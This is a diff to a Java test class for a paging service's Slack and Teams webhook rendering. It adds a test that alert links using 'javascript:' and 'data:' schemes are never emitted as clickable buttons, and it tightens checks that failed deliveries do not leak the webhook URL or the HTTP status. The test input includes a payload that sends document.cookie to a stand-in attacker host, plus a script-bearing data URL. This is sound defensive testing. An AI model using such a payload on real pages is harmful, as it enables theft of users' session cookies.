@@ -7,6 +7,7 @@ import io.quarkus.test.common.QuarkusTestResource;
 import io.quarkus.test.junit.QuarkusTest;
 import io.tocsin.events.ContactMethod;
 import io.tocsin.events.Envelope;
+import io.tocsin.events.Link;
 import io.tocsin.events.NotificationRequested;
 import io.tocsin.events.Priority;
 import io.tocsin.events.Topics;
@@ -33,6 +34,7 @@ import java.util.concurrent.ConcurrentHashMap;
 
 import static org.awaitility.Awaitility.await;
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 /**
@@ -103,6 +105,26 @@ class WebhookPageTest {
     }
 
     @Test
+    void onlyWebLinksFromAlertsBecomeButtons() throws Exception {
+        List<Link> hostile = List.of(new Link("javascript:fetch('https://evil.example.test/'+document.cookie)", "Runbook"),
+                new Link("data:text/html,<script>alert(1)</script>", "Report"),
+                new Link("https://grafana.example.test/d/42", "Dashboard"));
+        String slack = "/slack-links-" + UUID.randomUUID();
+        page(slack, ContactMethod.Format.SLACK, hostile);
+        String message = awaitReceived(slack)[2];
+        JsonNode buttons = mapper.readTree(message).at("/blocks/1/elements");
+        assertEquals(3, buttons.size(), message);
+        assertEquals("https://grafana.example.test/d/42", buttons.get(2).get("url").asText());
+        assertFalse(message.contains("javascript:") || message.contains("data:text"), message);
+
+        String teams = "/teams-links-" + UUID.randomUUID();
+        page(teams, ContactMethod.Format.TEAMS, hostile);
+        String card = awaitReceived(teams)[2];
+        assertEquals(3, mapper.readTree(card).get("potentialAction").size(), card);
+        assertFalse(card.contains("javascript:") || card.contains("data:text"), card);
+    }
+
+    @Test
     void aWebhookThatAnswers410IsDead() throws Exception {
         String path = "/gone-" + UUID.randomUUID();
         UUID incident = page(path, ContactMethod.Format.GENERIC);
@@ -111,14 +133,30 @@ class WebhookPageTest {
                 1, Duration.ofSeconds(20));
         assertEquals(1, failed.size());
         EventSchemaAssert.assertMatchesSchema(failed.get(0).value());
-        assertTrue(failed.get(0).value().contains("HTTP 410"));
+        // Only "delivery failed": the status would let whoever reads the delivery probe the endpoint.
+        assertEquals(WebhookClient.FAILED, mapper.readTree(failed.get(0).value()).at("/data/reason").asText());
         assertEquals(1, TestDatabase.count("select count(*) from delivery where incident_id = ? and state = 'DEAD'", incident));
+        // The webhook URL is a credential: not in the event, and not shown even to an admin.
+        assertFalse(failed.get(0).value().contains(path), failed.get(0).value());
+        String deliveries = io.restassured.RestAssured.given()
+                .header("Authorization", io.tocsin.local.testing.TestTokens.bearer("root", "admin"))
+                .queryParam("incident", incident.toString()).get("/api/v1/deliveries").then().statusCode(200)
+                .extract().asString();
+        assertTrue(deliveries.contains("\"channel\":\"WEBHOOK\"") && !deliveries.contains(path), deliveries);
     }
 
     private UUID page(String path, ContactMethod.Format format) throws Exception {
+        return page(path, format, null);
+    }
+
+    private UUID page(String path, ContactMethod.Format format, List<Link> links) throws Exception {
         UUID incident = UUID.randomUUID();
         NotificationRequested email = Pages.page("unused@example.test", "en", Priority.P1, "checkout-api",
                 "error rate 45%", Duration.ofMinutes(15), 1);
+        if (links != null) {
+            email = new NotificationRequested(email.recipient(), email.contact(), email.service(), email.priority(),
+                    email.summary(), email.respondBy(), links, email.step(), email.loop(), email.reason());
+        }
         NotificationRequested hook = new NotificationRequested(email.recipient(),
                 new ContactMethod(ContactMethod.Kind.WEBHOOK, "http://127.0.0.1:" + receiver.getAddress().getPort() + path, format),
                 email.service(), email.priority(), email.summary(), email.respondBy(), email.links(), email.step(),
